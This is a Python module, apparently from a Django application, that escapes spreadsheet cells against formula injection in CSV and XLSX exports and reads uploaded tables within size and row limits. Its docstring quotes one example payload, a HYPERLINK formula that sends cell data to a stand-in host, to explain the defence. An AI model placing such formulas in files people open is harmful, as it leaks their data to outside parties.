"""Files people open in a spreadsheet (CSV and XLSX): cells that cannot run as formulas; and reading the tables
people upload (read_table).

A spreadsheet treats a cell starting with =, +, -, @ (and, in some programs, a tab or carriage return
before them) as a formula: a firm named `=HYPERLINK("https://evil.example/?"&A1,"click")` in a payout
file would run when an operator opens it. Every writer of such files passes its rows through
`spreadsheet_row` (or uses `csv_writer`), which puts an apostrophe before such text: spreadsheets show
the text as typed, and the apostrophe is visible to a program reading the raw file.

Only text is escaped. Numbers (int, Decimal, float) are written as they are, so a negative amount such as a
refund (-5000) stays a number the operator can sum; it cannot carry a formula.
"""

import csv
from collections.abc import Iterable
from typing import Any

from django.utils.translation import gettext as _

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]


class _SafeWriter:
    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(spreadsheet_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> _SafeWriter:
    """csv.writer whose rows go through spreadsheet_row."""
    return _SafeWriter(out, **kwargs)


# --- XLSX and reading tables people upload ---------------------------------------------------------------------------
MAX_UPLOAD_BYTES = 5 * 1024 * 1024
MAX_TABLE_ROWS = 10_000
CSV_ENCODINGS = ("utf-8-sig", "cp949")  # Korean spreadsheets save CSV as CP949 (EUC-KR) as often as UTF-8


class SpreadsheetError(Exception):
    """An upload that is not a table we can read; `code` is stable, `message` says what to do."""

    def __init__(self, message: str, *, code: str = "unreadable_file"):
        super().__init__(message)
        self.message = message
        self.code = code


def xlsx_bytes(
    rows: Iterable[Iterable[Any]] = (),
    *,
    title: str = "Sheet1",
    sheets: Iterable[tuple[str, Iterable[Iterable[Any]]]] | None = None,
) -> bytes:
    """An XLSX workbook of one sheet holding `rows` (or of `sheets`, (title, rows) each, in order), each row through
    spreadsheet_row (text never runs as a formula; numbers stay numbers)."""
    import io

    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for sheet_title, sheet_rows in [(title, rows)] if sheets is None else sheets:
        sheet = workbook.create_sheet(title=sheet_title[:31])
        for row in sheet_rows:
            sheet.append(spreadsheet_row(row))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def read_table(file, *, filename: str = "") -> list[list[Any]]:
    """The rows of an uploaded CSV (UTF-8 or CP949) or XLSX file (its first sheet; numbers as numbers, the rest as
    text), at most MAX_UPLOAD_BYTES and MAX_TABLE_ROWS rows. An XLSX file is known by its content (a ZIP archive),
    whatever its name says."""
    import io
    import zipfile

    data = file.read() if hasattr(file, "read") else file
    if isinstance(data, str):
        data = data.encode("utf-8")
    if len(data) > MAX_UPLOAD_BYTES:
        raise SpreadsheetError(
            _("The file is larger than %(limit)s MB.") % {"limit": MAX_UPLOAD_BYTES // (1024 * 1024)},
            code="file_too_large",
        )
    if data.startswith(b"PK\x03\x04"):
        from openpyxl import load_workbook

        try:
            workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
        except (zipfile.BadZipFile, KeyError, OSError, ValueError) as error:
            raise SpreadsheetError(_("The file cannot be read as an XLSX workbook.")) from error
        try:
            rows = []
            for row in workbook.worksheets[0].iter_rows(values_only=True):
                if len(rows) >= MAX_TABLE_ROWS:
                    raise SpreadsheetError(
                        _("At most %(limit)s rows in one file.") % {"limit": f"{MAX_TABLE_ROWS:,}"},
                        code="too_many_rows",
                    )
                rows.append(list(row))
            return rows
        finally:
            workbook.close()
    if filename.lower().endswith((".xlsx", ".xlsm")):
        raise SpreadsheetError(_("The file cannot be read as an XLSX workbook."))
    for encoding in CSV_ENCODINGS:
        try:
            text = data.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    else:
        raise SpreadsheetError(_("The file cannot be read: it must be a UTF-8 or CP949 (EUC-KR) CSV file, or XLSX."))
    if "\x00" in text:
        raise SpreadsheetError(_("The file cannot be read: it is not CSV text."))
    rows = []
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        if len(rows) >= MAX_TABLE_ROWS:
            raise SpreadsheetError(
                _("At most %(limit)s rows in one file.") % {"limit": f"{MAX_TABLE_ROWS:,}"}, code="too_many_rows"
            )
        rows.append(row)
    return rows
